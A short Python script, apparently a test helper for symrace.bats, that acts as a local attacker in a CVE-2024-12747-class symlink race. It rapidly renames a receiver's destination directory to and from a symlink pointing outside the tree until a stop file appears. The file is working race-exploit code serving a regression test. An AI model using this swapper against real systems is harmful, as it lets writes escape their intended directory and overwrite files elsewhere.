#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-3.0-or-later
# A local attacker for symrace.bats (the CVE-2024-12747 class): swaps
# DEST/NAME, a directory the receiver writes into, for a symlink to OUTSIDE
# and back, as fast as renames go, until STOPFILE exists. Every step is a
# rename(2), so at each instant DEST/NAME is the real directory, the
# symlink, or missing; a step that fails (the receiver made or removed
# something meanwhile) is skipped and the loop goes on.
#   swapper.py DEST NAME OUTSIDE STOPFILE
import os
import sys

dest, name, outside, stop = sys.argv[1:5]
real = os.path.join(dest, name)
hold = os.path.join(dest, ".swap-hold")
link = os.path.join(dest, ".swap-link")
swaps = 0
try:
    os.symlink(outside, link)
except FileExistsError:
    pass
while not os.path.exists(stop):
    for a, b in ((real, hold), (link, real), (real, link), (hold, real)):
        try:
            os.rename(a, b)
            swaps += 1
        except OSError:
            pass
# leave the tree with its real directory, as far as it goes
for a, b in ((real, link), (hold, real)):
    try:
        if os.path.islink(a) or a == hold:
            os.rename(a, b)
    except OSError:
        pass
print(swaps)
